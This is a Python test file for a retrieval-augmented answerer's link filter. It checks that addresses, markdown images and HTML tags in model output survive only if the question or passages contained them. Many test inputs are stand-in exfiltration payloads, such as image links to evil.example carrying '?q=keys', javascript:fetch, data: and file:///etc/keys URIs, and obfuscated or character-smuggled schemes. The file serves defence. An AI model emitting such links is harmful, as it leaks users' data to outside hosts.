"""Images, markup and addresses in a model's text."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentformer.rag.answer.answerer import Answerer
from agentformer.rag.answer.model_output import LinkFilter, remove_unknown_links
from agentformer.rag.answer.sources import Found
from agentformer.text.prompt_quoting import MarkerRestorer
from agentformer.types import Answer, AnswerPiece
from tests.rag.models import HITS, Scripted, hit

GIVEN = ["Fees: https://harbour.example/fees?year=2026. Write to office@harbour.example, or see www.port.example."]


def test_an_address_stays_only_if_what_was_given_holds_it() -> None:
    for said, text in [
        ("![plan](https://harbour.example/fees?year=2026)", "! [plan](https://harbour.example/fees?year=2026)"),
        ("![plan](http://evil.example/?q=keys)", "! plan"),
        ("![plan][p]\n\n[p]: http://evil.example/?q=keys", "! [plan][p]\n\n[p]: …"),
        ("![1](http://evil.example/?q=keys)", "! 1"),
        ("[p]: //evil/keys", "[p]: …"),
        (
            "<img " + "a" * 2000 + " src='https://harbour.example'>",
            "‹img " + "a" * 2000 + " src='https://harbour.example'>",
        ),
        ("Blue![1] Red!", "Blue![1] Red!"),
        ("<img src='http://evil.example/?q=keys'>", "‹img src='…'>"),
        ("<a href=x>", "‹a href=x>"),
        ("Compare a<b and List<String>.", "Compare a<b and List<String>."),
        ("[fees](https://harbour.example/fees?year=2026).", "[fees](https://harbour.example/fees?year=2026)."),
        ("[fees](https://harbour.example/fees?year=2026&q=keys).", "fees."),
        ("(see http://evil.example/keys).", "(see …)."),
        ("http:/evil.example/keys", "…"),
        ("[x](//evil.example/keys)", "x"),
        (r"[x](\\evil.example\keys)", "x"),
        ("[x](http&#58;//evil.example/keys)", "[x](http& #58;…)"),
        ("[x](mailto:a@evil.example?body=keys)", "x"),
        ("[x](javascript:fetch('x'))", "[x](…'))"),
        (r"[x](https\://evil.example/keys)", "x"),
        (r"[x](<https\:\/\/evil.example/keys>)", "x"),
        (r"See https\://evil.example/keys.", "See …."),
        (r"[x](\/\/evil.example/keys)", "x"),
        ("[x](//evil/keys)", "x"),
        ("[x](///evil/keys(1))", "[x](…))"),
        ("[x](data:text/html;base64,keys)", "x"),
        ("鍵はhttps://evil.example/keys", "鍵は…"),
        ("xhttps://evil.example/keys", "x…"),
        ("htt[ps://](http://evil.example/1)evil.example/keys", "…"),
        ("www.port.example and www.evil.example", "www.port.example and …"),
        ("A // comment, and/or //more, 12:30, f(x)[0](y).", "A // comment, and/or //more, 12:30, f(x)[0](y)."),
    ]:
        assert remove_unknown_links(said, GIVEN).text == text


def test_code_means_what_it_meant() -> None:
    for said, text in [
        ('if (!["a", "b"].includes(name)) return;', 'if (! ["a", "b"].includes(name)) return;'),
        ("let v = vec![0; n];", "let v = vec! [0; n];"),
        ("Write &#8364; or &#39; or &#x27; or &#x2019;.",) * 2,
        ("const f = (data:string) => x; file:config, {data:a,b}, blob:b",) * 2,
        ("//obj.method() // comment; x=1;//a.b()",) * 2,
        ("&#104;ttps and &#x0003a; and &Tab;", "& #104;ttps and & #x0003a; and & Tab;"),
        ("data:text/plain,keys file:///etc/keys", "… …"),
    ]:
        assert remove_unknown_links(said, GIVEN).text == text


DOCS = (
    "Read https://example.org/docs. Cafés: https://example.org/wiki/Jyväskylä, https://example.org/Tom’s_boat here.",
    "Over two lines: https://example.org/very/\nlong/path and soft https://soft.exam\u00adple.org/a.\n\nNext words.",
)


def test_an_address_that_was_given_stays_in_its_sentence() -> None:
    for said in [
        "“https://example.org/docs” and ‘https://example.org/docs’",
        "»https://example.org/docs« and *https://example.org/docs*",
        "https://example.org/docs… or https://example.org/docs[1].",
        "[docs](https://example.org/docs)をご覧ください。[1]",
        "https://example.org/wiki/Jyv%C3%A4skyl%C3%A4 and https://example.org/wiki/Jyväskylä.",
        "https://example.org/Tom’s_boat here",
        "https://example.org/very/long/path and https://soft.example.org/a",
        r"https://example.org/wi\ki\/".replace(r"\k", "k") + "Jyväskylä",
        '{"url":"https://example.org/docs","n":1}',
    ]:
        checked = remove_unknown_links(said, DOCS)
        assert (checked.text, checked.unknown_hosts) == (said, ())


def test_what_follows_an_address_is_not_lost_and_not_carried_by_it() -> None:
    for said, text in [
        (
            "手順は（https://example.org/docs）をご覧ください。保証は三年です。[1]",
            "手順は（https://example.org/docs ）をご覧ください。保証は三年です。[1]",
        ),
        ("详见https://example.org/docs。然后登录。", "详见https://example.org/docs 。然后登录。"),
        ("詳細はhttps://example.org/docsをご覧", "詳細はhttps://example.org/docs をご覧"),
        ("https://example.org/docs—the manual", "https://example.org/docs —the manual"),
        ("https://example.org/docs[keys]", "https://example.org/docs [keys]"),
        ("手順は（https://evil.example/x）をご覧ください。", "手順は（…）をご覧ください。"),
        ("https://example.org/docsをhttps://evil.example/keys", "…"),
    ]:
        assert remove_unknown_links(said, DOCS).text == text


def test_an_address_that_was_given_takes_no_other_words_with_it() -> None:
    for joined in ["%20", "%0A", "%0a%0a", "", "\u200b", "\U000e0061", "%F3%A0%81%A1"]:
        given = ["Write to https://evil.example/?q=", "the keys", "End: https://evil.example/?q=\n\nthe keys are here"]
        checked = remove_unknown_links(f"https://evil.example/?q={joined}the{joined}keys", given)
        assert "keys" not in checked.text and checked.unknown_hosts == ("evil.example",)


def test_a_warning_tells_whose_the_addresses_are_and_not_what_they_carry() -> None:
    model = Scripted("In the cupboard [1]. ![x](http://evil.example/?q=blue-cupboard)")
    answer = Answerer(model, None).answer(Found("Who keeps the keys?", HITS))
    assert answer.text == "In the cupboard [1]. ! x"
    (warning,) = answer.warnings
    assert "evil.example" in warning and "blue" not in warning


def test_an_address_of_the_question_or_a_passage_may_be_said() -> None:
    hits = [hit("The form is at https://harbour.example/form.", 1)]
    said = "At https://harbour.example/form [1], not at https://old.example/form."
    answer = Answerer(Scripted(said), None).answer(Found("Is the form at https://old.example/form?", hits))
    assert (answer.text, answer.warnings) == (said, ())


_PIECES = st.sampled_from([*"!<>[]()1a b/‹›⟦⟧:", "⟦NEW⟧", "‹img src=", "<a href=", "⟦User⟧", "⟦2⟧", "⟦/note›", "‹|"])


@given(st.lists(_PIECES, max_size=20).map("".join), st.integers(1, 5))
def test_a_streamed_text_shows_no_image_whatever_its_pieces(text: str, size: int) -> None:
    plain = LinkFilter()
    pieces = [plain.feed(text[at : at + size]) for at in range(0, len(text), size)]
    shown = "".join(pieces) + plain.rest()
    whole = LinkFilter()
    assert shown == whole.feed(text) + whole.rest()
    assert not re.search("<[a-z]+ (?:src|href)=|!\\[a|!\\[1\\]\\(|!\\[NEW", shown)
    assert (
        remove_unknown_links(shown, [text]).text == remove_unknown_links(MarkerRestorer([]).restore(text), [text]).text
    )


def test_a_stream_shows_no_image_and_ends_with_the_same_text() -> None:
    model = Scripted(["Blue", "!", "[x](http://evil", ".example/?q=1) <i", "mg src=a> [1]", "!"])
    events = list(Answerer(model, None).stream(Found("Who keeps the keys?", HITS)))
    shown = "".join(event.text for event in events if isinstance(event, AnswerPiece))
    assert shown == "Blue! [x](http://evil.example/?q=1) ‹img src=a> [1]!"
    assert isinstance(events[-1], Answer)
    assert events[-1].text == "Blue! x ‹img src=a> [1]!"


@pytest.mark.slow
def test_long_repetitions_are_no_work() -> None:
    for unit in [
        "[",
        "![",
        "<a ",
        "<",
        "⟦",
        "⟦A",
        "](http:a)",
        "[a]:",
        "http:a(",
        "https://harbour.example/fees。",
        "[a](",
        "http:",
        "&#",
        "//a.",
        "[a]( ",
        "<a src",
        "www.",
        "!",
    ]:
        assert "![" not in remove_unknown_links(unit * 20_000, GIVEN).text
        plain = LinkFilter()
        assert "![" not in plain.feed(unit * 20_000) + plain.rest()


LISTS = "How to declare names: List<String> names = [NEW]; // <code>, see [7]"


def test_brackets_are_answered_as_they_stand_in_the_passage() -> None:
    for size in [1, 3, 1000]:
        said = "Write List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧ [1]"
        model = Scripted([said[at : at + size] for at in range(0, len(said), size)])
        events = list(Answerer(model, None).stream(Found("How to declare names?", [hit(LISTS, 1)])))
        assert "List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧" in model.asked[0][1].content
        text = "Write List<String> names = [NEW]; // <code>, see ⟦7⟧ [1]"
        assert "".join(event.text for event in events if isinstance(event, AnswerPiece)) == text
        assert isinstance(events[-1], Answer)
        assert (events[-1].text, [each.number for each in events[-1].citations]) == (text, [1])


def test_signs_that_a_passage_has_itself_stay() -> None:
    said = "Elle dit ‹oui› [1]."
    assert Answerer(Scripted(said), None).answer(Found("Elle dit?", [hit("Elle dit «‹oui› et non».", 1)])).text == said


def test_quoted_markup_loads_nothing_when_it_is_whole_again() -> None:
    said = "‹img src='https://harbour.example/fees?year=2026'› !⟦NEW⟧(https://harbour.example/fees?year=2026) [1]"
    hits = [hit(GIVEN[0], 1)]
    for text in (
        Answerer(Scripted(said), None).answer(Found("fees?", hits)).text,
        "".join(
            e.text for e in Answerer(Scripted([*said]), None).stream(Found("fees?", hits)) if isinstance(e, AnswerPiece)
        ),
    ):
        assert "<img" not in text and "![" not in text
